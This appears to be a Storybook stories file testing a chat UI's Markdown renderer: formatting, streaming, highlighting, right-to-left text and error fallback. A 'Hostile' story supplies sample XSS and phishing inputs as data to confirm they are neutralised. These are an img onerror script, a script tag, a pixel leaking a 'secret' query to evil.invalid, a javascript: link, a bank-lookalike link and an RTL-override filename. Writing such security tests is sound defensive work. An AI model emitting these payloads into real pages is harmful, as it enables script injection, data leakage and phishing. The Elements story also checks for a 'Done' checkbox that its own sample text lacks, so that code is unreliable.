import type { Meta, StoryObj } from "@storybook/react-vite";
import { Markdown, type MarkdownProps, type SlotCodeProps } from "oneshot-chat/markdown";
import { useEffect, useState } from "react";
import { expect } from "storybook/test";

const EVERYTHING = `# Returns

You have **30 days**, counted from the *delivery*. ~~14 days~~ is the old rule.

## How it works

1. Print the label:
   - at home, or
   - in any shop
2. Bring the parcel.

- [x] Ordered
- [ ] Sent back

| Country | Days | Cost |
| :------ | :--: | ---: |
| Austria |  2   |  0 € |
| France  |  4   | 5 €  |

\`\`\`ts
const label = await shop.label({ order: "1234" }); // free
\`\`\`

> Worn shoes stay with you.

See [the policy](https://shop.example/policy) or www.shop.example today.[^1]

---

[^1]: The law of your country may give you more.
`;

/** An answer's Markdown by itself, for layouts of your own. */
const meta: Meta<MarkdownProps> = {
  title: "Markdown",
  args: { text: EVERYTHING },
  render: (args) => <Markdown {...args} />,
};
export default meta;

type Story = StoryObj<MarkdownProps>;

export const Elements: Story = {
  play: async ({ canvas }) => {
    await expect(canvas.getByRole("heading", { name: "Returns", level: 3 })).toBeVisible();
    await expect(canvas.getByRole("columnheader", { name: "Cost" })).toBeVisible();
    await expect(canvas.getByRole("checkbox", { name: /Done/ })).toBeChecked();
    await expect(canvas.getByRole("link", { name: "the policy" })).toHaveAttribute(
      "rel",
      "noopener noreferrer nofollow ugc",
    );
    await expect(canvas.getByRole("button", { name: "Copy code" })).toBeVisible();
  },
};

/** As it comes: what is half typed is not shown as marks. */
export const Streaming: Story = {
  args: { text: "Take **30 days", isStreaming: true },
  play: async ({ canvas, canvasElement }) => {
    await expect(canvas.getByText("30 days").tagName).toBe("STRONG");
    await expect(canvasElement).not.toHaveTextContent("*");
  },
};

/** The whole answer, a little more in each frame; turn the page's motion off and it stands at once. */
export const Growing: Story = {
  render: (args) => <Grow {...args} />,
  play: async ({ canvas }) => {
    await expect(
      await canvas.findByText(/may give you more/, {}, { timeout: 10_000 }),
    ).toBeVisible();
  },
};

function Grow({ text, ...rest }: MarkdownProps) {
  const [shownChars, setShownChars] = useState(0);
  useEffect(() => {
    if (shownChars >= text.length) return undefined;
    const frame = requestAnimationFrame(() => setShownChars(shownChars + 12));
    return () => cancelAnimationFrame(frame);
  }, [shownChars, text]);
  return (
    <Markdown {...rest} text={text.slice(0, shownChars)} isStreaming={shownChars < text.length} />
  );
}

const WORDS = /("[^"]*"|\/\/.*|\b(?:const|await|let|return|function)\b)/g;

/** The recipe for highlighting: a component in place of `code`, from which any highlighter can be called. */
function HighlightedCode({ className, isBlock, text, children }: SlotCodeProps) {
  if (!isBlock) return <code className={className}>{children}</code>;
  return (
    <code className={className}>
      {text.split(WORDS).map((piece, index) =>
        index % 2 === 0 ? (
          piece
        ) : (
          <span key={index} style={{ color: colourOf(piece) }}>
            {piece}
          </span>
        ),
      )}
    </code>
  );
}

function colourOf(piece: string): string {
  if (piece.startsWith("//")) return "light-dark(#57606a, #9da7b3)";
  return piece.startsWith('"') ? "light-dark(#116329, #7ee787)" : "light-dark(#8250df, #d2a8ff)";
}

export const HighlightedByASlot: Story = {
  args: { components: { code: HighlightedCode } },
  play: async ({ canvas }) => {
    await expect(canvas.getByText("await").tagName).toBe("SPAN");
  },
};

/** What an attacker would write: all of it is text, and no address is asked. */
export const Hostile: Story = {
  args: {
    text: [
      "<img src=https://evil.invalid/p.png onerror=alert(1)> <script>alert(2)</script>",
      "![pixel](https://evil.invalid/p.png?q=secret) [click](javascript:alert(3))",
      "[https://bank.example](https://evil.invalid/login)",
      "a\u202Egnp.exe",
    ].join("\n\n"),
  },
  play: async ({ canvas, canvasElement }) => {
    await expect(canvasElement.querySelector("img, script")).toBeNull();
    await expect(canvas.getByText(/onerror=alert/)).toBeVisible();
    await expect(canvas.queryByRole("link", { name: "click" })).toBeNull();
    await expect(canvasElement).toHaveTextContent("evil.invalid");
    await expect(canvasElement.textContent).not.toContain("\u202E");
  },
};

export const RightToLeft: Story = {
  args: {
    text: "# الإرجاع\n\nلديك **30 يومًا** من التسليم.\n\n- في المتجر\n- بالبريد\n\nAn English line.",
  },
  globals: {},
  play: async ({ canvas }) => {
    await expect(canvas.getByRole("heading")).toHaveAttribute("dir", "auto");
  },
};

function Broken(): never {
  throw new Error("A mistake of the page.");
}

/** A component that throws leaves the answer as plain text. */
export const BrokenSlot: Story = {
  args: { text: "Take **30 days**.", components: { strong: Broken } },
  play: async ({ canvas }) => {
    await expect(await canvas.findByText("Take **30 days**.")).toBeVisible();
  },
};
